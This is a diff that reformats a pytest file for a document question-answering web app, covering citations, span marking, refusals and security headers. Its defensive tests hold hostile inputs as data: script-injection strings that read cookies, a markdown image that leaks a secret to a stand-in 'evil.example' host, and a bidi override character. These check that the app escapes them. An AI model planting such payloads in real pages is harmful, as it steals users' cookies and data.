@@ -111,7 +111,9 @@ def test_start_of_an_empty_library_says_what_to_do(empty: TestClient) -> None:
 
 
 def test_examples_come_from_each_document_in_turn_and_say_enough() -> None:
-    picked = example_questions([["Overview", "How it works", "Notes to the text"], ["1. 2. 3.", "What it costs"]])
+    picked = example_questions(
+        [["Overview", "How it works", "Notes to the text"], ["1. 2. 3.", "What it costs"]]
+    )
     assert picked == ("How it works", "What it costs", "Notes to the text")
 
 
@@ -166,7 +168,9 @@ def test_a_repeated_place_is_linked(client: TestClient) -> None:
 
 
 def test_a_thousand_repeats_are_counted_not_listed(client: TestClient, answerer: TableAnswerer) -> None:
-    cited = answerer.cite("water.md", "The limit is 50.", also_at=tuple(Span(at, at + 3) for at in range(1000)))
+    cited = answerer.cite(
+        "water.md", "The limit is 50.", also_at=tuple(Span(at, at + 3) for at in range(1000))
+    )
     client_ = TestClient(create_app(Fixed(answerer.library, compose(answerer, [cited])), Settings()))
     page = get(client_, "/", q="limit")
     assert "and 995 more places" in page.text
@@ -186,11 +190,15 @@ class Fixed(Answerer):
 
 def test_a_refusal_shows_the_nearest_places(client: TestClient) -> None:
     page = get(client, "/", q="Who is the mayor?")
-    assert "The documents do not say. Nothing in them answers this. These places are the nearest." in page.text
+    assert (
+        "The documents do not say. Nothing in them answers this. These places are the nearest." in page.text
+    )
     assert page.all("article")[0]["data-status"] == "not_in_document"
     places = page.all("a", "place open")
     assert len(places) == 3
-    assert get(client, places[0]["href"] or "").marks["span-1"].startswith("Larkfield drinks from two sources.")
+    assert (
+        get(client, places[0]["href"] or "").marks["span-1"].startswith("Larkfield drinks from two sources.")
+    )
 
 
 def test_a_refusal_by_one_document_says_so(client: TestClient, answerer: TableAnswerer) -> None:
@@ -269,7 +277,9 @@ def test_the_citation_url_of_the_wire_opens_at_the_mark(library: Library) -> Non
         assert [mark.get("autofocus", 0) for mark in page.all("mark")][0] is None
 
 
-def test_several_spans_are_marked_in_order_and_overlaps_are_one(client: TestClient, answerer: TableAnswerer) -> None:
+def test_several_spans_are_marked_in_order_and_overlaps_are_one(
+    client: TestClient, answerer: TableAnswerer
+) -> None:
     page = get(client, f"/documents/{answerer.ids['water.md']}?span=40-60&span=2-12&span=8-20")
     assert page.marks == {"span-1": WATER[2:20], "span-2": WATER[40:60].replace("\n", "")}
     assert "line 1, line 3" in page.text
@@ -280,7 +290,9 @@ def test_several_spans_are_marked_in_order_and_overlaps_are_one(client: TestClie
     ["span=9-1", "span=5-5", "span=x", "span=-1-4", "start=3", "end=3", "start=a&end=b", "from=-1", "from=x",
      "span=0-999999", "from=999999", "span=1-9999999999999", "&".join(["span=1-2"] * 101)],
 )  # fmt: skip
-def test_a_place_that_cannot_be_is_refused_in_words(client: TestClient, answerer: TableAnswerer, query: str) -> None:
+def test_a_place_that_cannot_be_is_refused_in_words(
+    client: TestClient, answerer: TableAnswerer, query: str
+) -> None:
     page = get(client, f"/documents/{answerer.ids['water.md']}?{query}", 422)
     assert "Open the whole document" in page.text
 
@@ -309,11 +321,16 @@ def test_a_large_document_is_shown_by_windows(empty: TestClient, library: Librar
     further = get(empty, later)
     assert "Line 41234 " not in further.text
     assert f"span={at}-{at + 10}" in later
-    back = next(link["href"] or "" for link in further.all("a", "open") if f"from={at}" in (link["href"] or ""))
+    back = next(
+        link["href"] or "" for link in further.all("a", "open") if f"from={at}" in (link["href"] or "")
+    )
     assert get(empty, back).marks == {"span-1": "Line 41234"}
 
 
-@given(st.text(alphabet="ab\r\n é\U0001f600", max_size=80), st.lists(st.tuples(st.integers(0, 80), st.integers(0, 80))))
+@given(
+    st.text(alphabet="ab\r\n é\U0001f600", max_size=80),
+    st.lists(st.tuples(st.integers(0, 80), st.integers(0, 80))),
+)
 def test_a_view_shows_every_line_and_marks_just_the_spans(source: str, pairs: list[tuple[int, int]]) -> None:
     spans = [Span(min(pair), max(pair)) for pair in pairs if max(pair) <= len(source)]
     view = view_source(source, spans)
@@ -353,7 +370,14 @@ def test_windows_follow_each_other_without_gap(source: str, window: int, data: s
 def pages_of(client: TestClient, answerer: TableAnswerer) -> list[Page]:
     hostile = answerer.ids[list(FILES)[2]]
     question = '"><script>alert(1)</script>'
-    urls = ["/", "/?q=door", "/?q=door&open=2", "/?q=mayor", f"/documents/{hostile}", f"/documents/{hostile}?span=3-300"]
+    urls = [
+        "/",
+        "/?q=door",
+        "/?q=door&open=2",
+        "/?q=mayor",
+        f"/documents/{hostile}",
+        f"/documents/{hostile}?span=3-300",
+    ]
     return [get(client, url) for url in urls] + [get(client, "/", q=question)]
 
 
@@ -370,23 +394,45 @@ def test_documents_and_questions_are_shown_as_text(client: TestClient, answerer:
                 assert (attributes.get(name) or "/").startswith(("/", "#"))
                 assert not (attributes.get(name) or "/").startswith("//")
     shown = get(client, "/?q=door")
-    for markup in ("<script>alert(document.cookie)</script>", "![pixel](http://evil.example/leak.png?d=secret)"):
+    for markup in (
+        "<script>alert(document.cookie)</script>",
+        "![pixel](http://evil.example/leak.png?d=secret)",
+    ):
         assert markup in HOSTILE
         assert markup in shown.text
 
 
-def test_text_that_would_reorder_itself_is_shown_as_it_is(client: TestClient, answerer: TableAnswerer) -> None:
+def test_text_that_would_reorder_itself_is_shown_as_it_is(
+    client: TestClient, answerer: TableAnswerer
+) -> None:
     for page in pages_of(client, answerer):
         assert "\u202e" not in page.html
     assert "The [U+202E]drawkcab[U+202C] door." in get(client, "/?q=door").text
 
 
-@pytest.mark.parametrize("url", ["/", "/?q=door", "/?q=mayor", "/documents/nowhere", "/?q=" + "x" * 2001, "/static/style.css", "/static/no"])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/",
+        "/?q=door",
+        "/?q=mayor",
+        "/documents/nowhere",
+        "/?q=" + "x" * 2001,
+        "/static/style.css",
+        "/static/no",
+    ],
+)
 def test_every_response_carries_the_policy(client: TestClient, url: str) -> None:
     headers = client.get(url).headers
     policy = dict(each.split(" ", 1) for each in headers["content-security-policy"].split("; "))
     assert policy["default-src"] == "'none'"
-    assert policy["script-src"] == policy["style-src"] == policy["connect-src"] == policy["form-action"] == "'self'"
+    assert (
+        policy["script-src"]
+        == policy["style-src"]
+        == policy["connect-src"]
+        == policy["form-action"]
+        == "'self'"
+    )
     assert policy["base-uri"] == policy["frame-ancestors"] == policy["trusted-types"] == "'none'"
     assert headers["x-content-type-options"] == "nosniff"
     assert headers["referrer-policy"] == "same-origin"
@@ -403,7 +449,11 @@ def test_assets_are_addressed_by_content_and_kept(client: TestClient) -> None:
         response = client.get(address or "")
         assert response.status_code == 200
         assert "immutable" in response.headers["cache-control"]
-        assert response.headers["content-type"].split(";")[0] in {"text/javascript", "text/css", "image/svg+xml"}
+        assert response.headers["content-type"].split(";")[0] in {
+            "text/javascript",
+            "text/css",
+            "image/svg+xml",
+        }
         assert b"http://" not in response.content.replace(b"http://www.w3.org/2000/svg", b"")
         assert b"https://" not in response.content
 
